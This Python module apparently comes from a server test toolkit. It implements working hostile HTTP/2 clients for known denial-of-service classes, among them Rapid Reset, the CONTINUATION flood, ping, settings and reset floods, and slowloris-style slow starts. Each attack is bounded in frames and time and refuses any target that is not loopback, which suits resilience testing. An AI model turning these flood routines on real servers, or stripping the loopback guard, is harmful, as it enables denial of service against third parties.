"""Scripted hostile HTTP/2 clients, one function per attack, for testing the server.

Each attack is a raw client (hyperframe frames, hpack blocks, plain sockets or TLS) that
does one abusive thing, bounded in frames and in seconds, and reports what the server did
to it: the GOAWAY error code it got, whether the server closed the connection, and what
it sent. Loopback only: a target that is not a loopback address is refused.

The classes follow the 2019 HTTP/2 advisories (CVE-2019-9511 data dribble, -9512 ping
flood, -9513 priority churn, -9514 reset flood, -9515 settings flood, -9516 zero-length
headers, -9517 internal data buffering, -9518 empty frames), Rapid Reset (CVE-2023-44487)
and the CONTINUATION flood (CVE-2024-27316), plus slow and stalled readers, abrupt resets,
half-open connections and garbage TLS.
"""

from __future__ import annotations

import contextlib
import ipaddress
import random
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from toolkit.errors import WriteshapeError

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY_TYPE = 0x7
DATA_TYPE = 0x0
MAX_WINDOW = (1 << 31) - 1
BATCH_FRAMES = 500  # frames per sendall: big writes, so the server reads whole batches
DRAIN_CAP_BYTES = 256 << 20  # a drain never reads more than this


class HostileTargetError(WriteshapeError):
    """The attack target is not usable (not loopback, or not reachable)."""


@dataclass(frozen=True)
class Target:
    host: str
    port: int
    tls: bool = False

    @classmethod
    def from_url(cls, url: str) -> Target:
        parts = urlsplit(url)
        if parts.scheme not in ("http", "https") or not parts.hostname or not parts.port:
            raise HostileTargetError(f"bad target URL {url!r}: use http(s)://127.0.0.1:PORT")
        return cls(parts.hostname, parts.port, parts.scheme == "https")

    @property
    def transport(self) -> str:
        return "h2" if self.tls else "h2c"


@dataclass
class AttackResult:
    """What one attack did and what the server answered."""

    name: str
    transport: str
    local_ports: list[int] = field(default_factory=list)  # one per attacking connection
    frames_sent: int = 0
    bytes_sent: int = 0
    bytes_received: int = 0
    data_bytes_received: int = 0  # DATA payload bytes
    window_granted_bytes: int = 0  # flow-control credit the attacker handed out
    goaway_error_codes: list[int] = field(default_factory=list)
    closed_by_server: int = 0  # connections the server closed (EOF or reset)
    duration_s: float = 0.0
    detail: str = ""

    @property
    def connections(self) -> int:
        return len(self.local_ports)

    @property
    def goaway_error_code(self) -> int | None:
        return self.goaway_error_codes[0] if self.goaway_error_codes else None


def _require_loopback(host: str) -> None:
    try:
        infos = socket.getaddrinfo(host, None, type=socket.SOCK_STREAM)
    except socket.gaierror as exc:
        raise HostileTargetError(f"cannot resolve {host!r}: {exc}") from exc
    for info in infos:
        if not ipaddress.ip_address(info[4][0]).is_loopback:
            raise HostileTargetError(
                f"{host} is not a loopback address: hostile clients only attack 127.0.0.1/::1")


def _client_context() -> ssl.SSLContext:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # loopback test server with a throwaway certificate
    ctx.set_alpn_protocols(["h2"])
    return ctx


class _Inbound:
    """Client-side frame reader: counts DATA, keeps GOAWAY codes, never keeps payloads."""

    def __init__(self) -> None:
        self._head = b""
        self._goaway = b""
        self._goaway_left = 0
        self._skip = 0
        self.goaways: list[int] = []
        self.data_bytes = 0

    def feed(self, data: bytes) -> None:
        pos, end = 0, len(data)
        while pos < end:
            if self._skip:
                step = min(self._skip, end - pos)
                self._skip -= step
                pos += step
            elif self._goaway_left:
                step = min(self._goaway_left, end - pos)
                self._goaway += data[pos:pos + step]
                self._goaway_left -= step
                pos += step
                if not self._goaway_left and len(self._goaway) >= 8:
                    self.goaways.append(struct.unpack_from(">L", self._goaway, 4)[0])
            else:
                step = min(9 - len(self._head), end - pos)
                self._head += data[pos:pos + step]
                pos += step
                if len(self._head) < 9:
                    break
                length, ftype = int.from_bytes(self._head[:3], "big"), self._head[3]
                self._head = b""
                if ftype == GOAWAY_TYPE:
                    self._goaway, self._goaway_left = b"", length
                else:
                    self.data_bytes += length if ftype == DATA_TYPE else 0
                    self._skip = length


class _Peer:
    """One raw attacking connection (h2c or h2 over TLS); sends count, errors end it."""

    def __init__(self, target: Target, result: AttackResult, *, rcvbuf_bytes: int | None = None,
                 timeout_s: float = 2.0) -> None:
        self.result = result
        self.encoder = hpack.Encoder()
        self.inbound = _Inbound()
        self.closed = False
        raw = socket.socket(socket.AF_INET6 if ":" in target.host else socket.AF_INET)
        if rcvbuf_bytes:  # before connect, so the advertised TCP window is small too
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf_bytes)
        raw.settimeout(timeout_s)
        raw.connect((target.host, target.port))
        result.local_ports.append(raw.getsockname()[1])
        self.sock: socket.socket = raw
        if target.tls:
            self.sock = _client_context().wrap_socket(raw, server_hostname="localhost")

    # ---- sending -------------------------------------------------------------------
    def send(self, data: bytes, frames: int = 0) -> bool:
        """False once the server closed, reset, or stopped reading for timeout_s."""
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
        except (TimeoutError, ssl.SSLWantWriteError):
            self.result.detail = "server stopped reading"
            return False
        except (OSError, ssl.SSLError) as exc:
            self._server_closed(exc)
            return False
        self.result.bytes_sent += len(data)
        self.result.frames_sent += frames
        return True

    def start(self, settings: dict[int, int] | None = None, window_bytes: int = 0) -> bool:
        frame = SettingsFrame(0, settings=settings or {})
        out = PREFACE + frame.serialize()
        if window_bytes:
            wu = WindowUpdateFrame(0, window_increment=window_bytes)
            out += wu.serialize()
            self.result.window_granted_bytes += window_bytes
        return self.send(out, 1 + bool(window_bytes))

    def headers(self, stream_id: int, path: str = "/", *, end_stream: bool = True,
                end_headers: bool = True, extra: list[tuple[bytes, bytes]] | None = None
                ) -> HeadersFrame:
        block = self.encoder.encode([(b":method", b"GET"), (b":path", path.encode()),
                                     (b":scheme", b"https" if self.tls else b"http"),
                                     (b":authority", b"localhost"), *(extra or [])])
        flags = (["END_STREAM"] if end_stream else []) + (["END_HEADERS"] if end_headers else [])
        return HeadersFrame(stream_id, data=block, flags=flags)

    @property
    def tls(self) -> bool:
        return isinstance(self.sock, ssl.SSLSocket)

    # ---- receiving -----------------------------------------------------------------
    def read_some(self, timeout_s: float) -> bool:
        """Read what arrives within ``timeout_s``; False once the server closed."""
        if self.closed:
            return False
        self.sock.settimeout(timeout_s)
        try:
            chunk = self.sock.recv(256 * 1024)
        except (TimeoutError, ssl.SSLWantReadError):
            return True
        except (OSError, ssl.SSLError) as exc:
            self._server_closed(exc)
            return False
        if not chunk:
            self._server_closed(None)
            return False
        self.result.bytes_received += len(chunk)
        self.inbound.feed(chunk)
        return True

    def drain(self, wait_s: float) -> None:
        """Read until the server closes or ``wait_s`` passes with nothing new. A send that
        failed (reset) may have left the server's last frames (GOAWAY) unread: read them."""
        if self.closed:
            self._read_leftovers()
            return
        deadline = time.monotonic() + wait_s
        got = 0
        while not self.closed and time.monotonic() < deadline and got < DRAIN_CAP_BYTES:
            before = self.result.bytes_received
            if not self.read_some(min(0.5, max(0.01, deadline - time.monotonic()))):
                break
            got += self.result.bytes_received - before

    def _read_leftovers(self) -> None:
        with contextlib.suppress(OSError, ssl.SSLError):
            self.sock.settimeout(0.2)
            got = 0
            while got < DRAIN_CAP_BYTES and (chunk := self.sock.recv(256 * 1024)):
                got += len(chunk)
                self.result.bytes_received += len(chunk)
                self.inbound.feed(chunk)

    def _server_closed(self, exc: BaseException | None) -> None:
        if not self.closed:
            self.closed = True
            self.result.closed_by_server += 1
            if exc is not None:
                self.result.detail = f"{exc.__class__.__name__}: {exc}"

    def finish(self, wait_s: float) -> None:
        self.drain(wait_s)
        self.result.goaway_error_codes += self.inbound.goaways
        self.result.data_bytes_received += self.inbound.data_bytes
        self.abort()

    def abort(self) -> None:
        """Close with a TCP RST (SO_LINGER 0): no FIN, no close_notify."""
        with contextlib.suppress(OSError):
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        with contextlib.suppress(OSError):
            self.sock.close()


def _run(name: str, target: Target, body: Callable[[AttackResult], None]) -> AttackResult:
    _require_loopback(target.host)
    result = AttackResult(name, target.transport)
    started = time.monotonic()
    try:
        body(result)
    except (ConnectionError, TimeoutError, ssl.SSLError) as exc:
        result.detail = result.detail or f"{exc.__class__.__name__}: {exc}"
        result.closed_by_server += 1
    result.duration_s = time.monotonic() - started
    return result


def _flood(peer: _Peer, frames: Iterator[bytes], count: int, duration_s: float) -> None:
    """Send ``count`` frames in batches until the server stops taking them or time is up."""
    deadline = time.monotonic() + duration_s
    sent = 0
    while sent < count and time.monotonic() < deadline:
        n = min(BATCH_FRAMES, count - sent)
        if not peer.send(b"".join(next(frames) for _ in range(n)), n):
            return
        sent += n


def _repeat(frame: Frame) -> Iterator[bytes]:
    wire = frame.serialize()
    while True:
        yield wire


# ---- the 2019 classes ------------------------------------------------------------------


def ping_flood(target: Target, *, frames: int = 200_000, duration_s: float = 5.0,
               wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9512: PINGs, never reading the ACKs."""
    def body(r: AttackResult) -> None:
        peer = _Peer(target, r, rcvbuf_bytes=4096)
        if peer.start():
            _flood(peer, _repeat(PingFrame(0, opaque_data=b"hostile!")), frames, duration_s)
        peer.finish(wait_s)
    return _run("ping_flood", target, body)


def settings_flood(target: Target, *, frames: int = 200_000, duration_s: float = 5.0,
                   wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9515: SETTINGS frames, each owed an ACK, never reading."""
    def body(r: AttackResult) -> None:
        peer = _Peer(target, r, rcvbuf_bytes=4096)
        if peer.start():
            frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
            _flood(peer, _repeat(frame), frames, duration_s)
        peer.finish(wait_s)
    return _run("settings_flood", target, body)


def settings_too_many_entries(target: Target, *, entries: int = 2000,
                              wait_s: float = 3.0) -> AttackResult:
    """One SETTINGS frame with thousands of entries (each costs a validation)."""
    def body(r: AttackResult) -> None:
        peer = _Peer(target, r)
        if peer.start():
            payload = struct.pack(">HL", SettingsFrame.ENABLE_PUSH, 0) * entries
            head = struct.pack(">L", len(payload))[1:] + b"\x04\x00\x00\x00\x00\x00"
            peer.send(head + payload, 1)
        peer.finish(wait_s)
    return _run("settings_too_many_entries", target, body)


def priority_churn(target: Target, *, frames: int = 200_000, duration_s: float = 5.0,
                   wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9513: PRIORITY frames reshuffling a dependency tree of idle streams."""
    def frames_iter() -> Iterator[bytes]:
        i = 0
        while True:
            sid = 3 + 2 * (i % 1000)
            dep = 1 + 2 * ((i * 7919) % 1000)
            yield PriorityFrame(sid, depends_on=dep if dep != sid else 0,
                                stream_weight=i % 256, exclusive=bool(i & 1)).serialize()
            i += 1

    def body(r: AttackResult) -> None:
        peer = _Peer(target, r)
        if peer.start():
            _flood(peer, frames_iter(), frames, duration_s)
        peer.finish(wait_s)
    return _run("priority_churn", target, body)


def reset_flood(target: Target, *, frames: int = 400_000, duration_s: float = 6.0,
                wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9514: frames the server must answer with RST_STREAM, never reading.

    Stream 1 is half-closed by the request (END_STREAM) and held open by a zero window;
    every DATA frame on it is a stream error the server answers with RST_STREAM.
    """
    def body(r: AttackResult) -> None:
        peer = _Peer(target, r, rcvbuf_bytes=4096)
        if peer.start({SettingsFrame.INITIAL_WINDOW_SIZE: 0}):
            peer.send(peer.headers(1, "/").serialize(), 1)
            _flood(peer, _repeat(DataFrame(1, data=b"x")), frames, duration_s)
        peer.finish(wait_s)
    return _run("reset_flood", target, body)


def zero_length_headers(target: Target, *, headers: int = 2000,
                        wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9516: header fields with empty names and values."""
    def body(r: AttackResult) -> None:
        peer = _Peer(target, r)
        if peer.start():
            frame = peer.headers(1, "/", extra=[(b"", b"")] * headers)
            frame.data = frame.data[:16000]  # one frame's worth
            peer.send(frame.serialize(), 1)
        peer.finish(wait_s)
    return _run("zero_length_headers", target, body)


def internal_data_buffering(target: Target, *, streams: int = 100,
                            path: str = "/bytes/16777216", connections: int = 2,
                            hold_s: float = 5.0, wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9517: open windows, request large bodies, never read (for ``hold_s``)."""
    def body(r: AttackResult) -> None:
        peers = [_Peer(target, r, rcvbuf_bytes=4096) for _ in range(connections)]
        for peer in peers:
            if peer.start({SettingsFrame.INITIAL_WINDOW_SIZE: MAX_WINDOW},
                          window_bytes=MAX_WINDOW - 65535):
                reqs = b"".join(peer.headers(1 + 2 * i, path).serialize()
                                for i in range(streams))
                peer.send(reqs, streams)
        time.sleep(hold_s)
        for peer in peers:
            peer.finish(wait_s)
    return _run("internal_data_buffering", target, body)


def empty_frames_flood(target: Target, *, frames: int = 200_000, duration_s: float = 5.0,
                       wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9518: empty DATA frames (no END_STREAM) on an open request stream."""
    def body(r: AttackResult) -> None:
        peer = _Peer(target, r)
        if peer.start():
            peer.send(peer.headers(1, "/", end_stream=False).serialize(), 1)
            _flood(peer, _repeat(DataFrame(1, data=b"")), frames, duration_s)
        peer.finish(wait_s)
    return _run("empty_frames_flood", target, body)


def data_dribble(target: Target, *, streams: int = 20, path: str = "/bytes/1048576",
                 increment_bytes: int = 1, rounds: int = 300, duration_s: float = 4.0,
                 wait_s: float = 1.0) -> AttackResult:
    """CVE-2019-9511: zero initial windows, then 1-byte WINDOW_UPDATEs, reading the dribble.

    ``window_granted_bytes`` is the credit handed out: the server may send no more DATA.
    """
    def body(r: AttackResult) -> None:
        peer = _Peer(target, r)
        if not peer.start({SettingsFrame.INITIAL_WINDOW_SIZE: 0}):
            peer.finish(wait_s)
            return
        ids = [1 + 2 * i for i in range(streams)]
        peer.send(b"".join(peer.headers(sid, path).serialize() for sid in ids), streams)
        batch = b"".join(WindowUpdateFrame(sid, window_increment=increment_bytes).serialize()
                         for sid in ids)
        deadline = time.monotonic() + duration_s
        for _ in range(rounds):
            if time.monotonic() > deadline or not peer.send(batch, streams):
                break
            r.window_granted_bytes += increment_bytes * streams
            peer.read_some(0.001)
        peer.finish(wait_s)
    return _run("data_dribble", target, body)


# ---- the 2023/2024 CVEs ----------------------------------------------------------------


def rapid_reset(target: Target, *, streams: int = 50_000, duration_s: float = 5.0,
                wait_s: float = 3.0) -> AttackResult:
    """CVE-2023-44487: open a stream and cancel it at once, as fast as possible."""
    def body(r: AttackResult) -> None:
        peer = _Peer(target, r)
        if not peer.start():
            peer.finish(wait_s)
            return
        deadline = time.monotonic() + duration_s
        sid = 1
        while sid < 2 * streams and time.monotonic() < deadline:
            out = []
            for _ in range(BATCH_FRAMES // 2):
                out.append(peer.headers(sid, "/").serialize())
                out.append(RstStreamFrame(sid, error_code=0x8).serialize())  # CANCEL
                sid += 2
            if not peer.send(b"".join(out), len(out)):
                break
        peer.finish(wait_s)
    return _run("rapid_reset", target, body)


def continuation_flood(target: Target, *, frames: int = 100_000, frame_bytes: int = 16384,
                       duration_s: float = 5.0, wait_s: float = 3.0) -> AttackResult:
    """CVE-2024-27316: a header block that never ends (CONTINUATION without END_HEADERS)."""
    def body(r: AttackResult) -> None:
        peer = _Peer(target, r)
        if peer.start():
            first = peer.headers(1, "/", end_headers=False)
            junk = peer.encoder.encode([(b"x-flood", b"a" * 200)] * (frame_bytes // 210))
            junk = (junk * (frame_bytes // max(1, len(junk)) + 1))[:frame_bytes]
            if peer.send(first.serialize(), 1):
                _flood(peer, _repeat(ContinuationFrame(1, data=junk)), frames, duration_s)
        peer.finish(wait_s)
    return _run("continuation_flood", target, body)


# ---- slow, stalled, broken -------------------------------------------------------------


def zero_window(target: Target, *, streams: int = 10, path: str = "/bytes/16777216",
                hold_s: float = 5.0, wait_s: float = 3.0) -> AttackResult:
    """Request 16 MiB bodies with a zero window and hold the connection (pinging now and
    then, so the connection is not idle): only a stall timeout frees the streams."""
    def body(r: AttackResult) -> None:
        peer = _Peer(target, r)
        if peer.start({SettingsFrame.INITIAL_WINDOW_SIZE: 0}):
            peer.send(b"".join(peer.headers(1 + 2 * i, path).serialize()
                               for i in range(streams)), streams)
            deadline = time.monotonic() + hold_s
            while time.monotonic() < deadline and peer.send(
                    PingFrame(0, opaque_data=b"stalling").serialize(), 1):
                time.sleep(0.25)  # well under any PING rate limit
                peer.read_some(0.01)
        peer.finish(wait_s)
    return _run("zero_window", target, body)


def slow_reader(target: Target, *, streams: int = 10, path: str = "/bytes/16777216",
                read_bytes_per_s: int = 256 << 10, duration_s: float = 4.0,
                wait_s: float = 0.0) -> AttackResult:
    """Open windows, request 16 MiB bodies, read them at ``read_bytes_per_s``."""
    def body(r: AttackResult) -> None:
        peer = _Peer(target, r, rcvbuf_bytes=16384)
        if peer.start({SettingsFrame.INITIAL_WINDOW_SIZE: MAX_WINDOW},
                      window_bytes=MAX_WINDOW - 65535):
            peer.send(b"".join(peer.headers(1 + 2 * i, path).serialize()
                               for i in range(streams)), streams)
            started = time.monotonic()
            while (now := time.monotonic()) - started < duration_s and not peer.closed:
                if r.bytes_received > read_bytes_per_s * (now - started):
                    time.sleep(0.02)
                    continue
                peer.read_some(0.05)
        peer.finish(wait_s)
    return _run("slow_reader", target, body)


def abrupt_reset(target: Target, *, where: str = "mid-frame", wait_s: float = 0.5
                 ) -> AttackResult:
    """A TCP RST in the middle of something: ``mid-frame`` (after half a HEADERS frame),
    ``mid-record`` (TLS: after half a TLS record of application data) or ``mid-handshake``
    (TLS: after half a ClientHello)."""
    if where not in ("mid-frame", "mid-record", "mid-handshake"):
        raise HostileTargetError(f"abrupt_reset where={where!r}: mid-frame, mid-record, "
                                 "mid-handshake")
    if where != "mid-frame" and not target.tls:
        raise HostileTargetError(f"abrupt_reset {where} needs a TLS target")

    def body(r: AttackResult) -> None:
        raw = socket.create_connection((target.host, target.port), timeout=2.0)
        r.local_ports.append(raw.getsockname()[1])
        enc = hpack.Encoder()
        request = HeadersFrame(1, data=enc.encode([(b":method", b"GET"), (b":path", b"/"),
                                                   (b":scheme", b"http"),
                                                   (b":authority", b"localhost")]),
                               flags=["END_STREAM", "END_HEADERS"]).serialize()
        h2_bytes = PREFACE + SettingsFrame(0).serialize() + request
        if not target.tls:
            wire = h2_bytes[:-len(request) // 2]
        else:
            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            tls = _client_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
            with contextlib.suppress(ssl.SSLWantReadError):
                tls.do_handshake()
            hello = outgoing.read()
            if where == "mid-handshake":
                wire = hello[:len(hello) // 2]
            else:
                raw.sendall(hello)
                while True:
                    try:
                        tls.do_handshake()
                        break
                    except ssl.SSLWantReadError:
                        pending = outgoing.read()
                        if pending:
                            raw.sendall(pending)
                        chunk = raw.recv(65536)
                        if not chunk:
                            raise ConnectionResetError("server closed during handshake") from None
                        incoming.write(chunk)
                raw.sendall(outgoing.read())  # the client Finished
                tls.write(h2_bytes)
                record = outgoing.read()
                wire = record[:len(record) // 2]
        raw.sendall(wire)
        r.bytes_sent += len(wire)
        time.sleep(wait_s)  # let the server read the partial bytes first
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        raw.close()
    return _run(f"abrupt_reset_{where}", target, body)


def half_open(target: Target, *, connections: int = 20, partial: bool = True,
              hold_s: float = 5.0) -> AttackResult:
    """Connections that never finish starting: nothing, or half a preface/ClientHello.
    ``closed_by_server`` counts those the server closed within ``hold_s``."""
    def body(r: AttackResult) -> None:
        socks = []
        for _ in range(connections):
            s = socket.create_connection((target.host, target.port), timeout=2.0)
            r.local_ports.append(s.getsockname()[1])
            if partial:
                start = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" if target.tls \
                    else PREFACE[:12]
                s.sendall(start)
                r.bytes_sent += len(start)
            s.setblocking(False)
            socks.append(s)
        deadline = time.monotonic() + hold_s
        open_socks = list(socks)
        while open_socks and time.monotonic() < deadline:
            time.sleep(0.1)
            for s in list(open_socks):
                try:
                    chunk = s.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    chunk = b""
                r.bytes_received += len(chunk)
                if not chunk:
                    r.closed_by_server += 1
                    open_socks.remove(s)
        for s in socks:
            s.close()
    return _run("half_open", target, body)


def slow_start(target: Target, *, connections: int = 3, interval_s: float = 0.25,
               hold_s: float = 8.0) -> AttackResult:
    """Slowloris at the door: the ClientHello (TLS) or the HTTP/2 preface, one byte per
    ``interval_s``, so the connection is never idle and never starts. ``closed_by_server``
    counts the connections the server closed within ``hold_s``."""
    def body(r: AttackResult) -> None:
        start = (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(506) if target.tls
                 else PREFACE + SettingsFrame(0).serialize())
        socks = []
        for _ in range(connections):
            s = socket.create_connection((target.host, target.port), timeout=2.0)
            r.local_ports.append(s.getsockname()[1])
            s.setblocking(False)
            socks.append(s)
        deadline = time.monotonic() + hold_s
        open_socks = list(socks)
        pos = 0
        while open_socks and time.monotonic() < deadline:
            for s in list(open_socks):
                try:
                    if pos < len(start) - 1:  # never the last byte: the start never completes
                        r.bytes_sent += s.send(start[pos:pos + 1])
                    chunk = s.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    chunk = b""
                r.bytes_received += len(chunk)
                if not chunk:
                    r.closed_by_server += 1
                    open_socks.remove(s)
            pos += 1
            time.sleep(interval_s)
        for s in socks:
            s.close()
    return _run("slow_start", target, body)


def garbage_tls(target: Target, *, connections: int = 5, garbage_bytes: int = 4096,
                seed: int = 8, wait_s: float = 3.0) -> AttackResult:
    """Bytes that are not TLS: random noise, and a handshake record header announcing a
    16 MiB body that never comes right."""
    rng = random.Random(seed)

    def body(r: AttackResult) -> None:
        for i in range(connections):
            s = socket.create_connection((target.host, target.port), timeout=wait_s)
            r.local_ports.append(s.getsockname()[1])
            noise = rng.randbytes(garbage_bytes)
            data = noise if i % 2 == 0 else b"\x16\x03\x01\xff\xff" + noise
            with contextlib.suppress(OSError):
                s.sendall(data)
                r.bytes_sent += len(data)
            try:
                while chunk := s.recv(65536):
                    r.bytes_received += len(chunk)
                r.closed_by_server += 1
            except TimeoutError:
                pass
            except OSError:
                r.closed_by_server += 1
            s.close()
    return _run("garbage_tls", target, body)


ATTACKS: dict[str, Callable[..., AttackResult]] = {
    f.__name__: f for f in (
        ping_flood, settings_flood, settings_too_many_entries, priority_churn, reset_flood,
        zero_length_headers, internal_data_buffering, empty_frames_flood, data_dribble,
        rapid_reset, continuation_flood, zero_window, slow_reader, abrupt_reset, half_open,
        slow_start, garbage_tls)
}
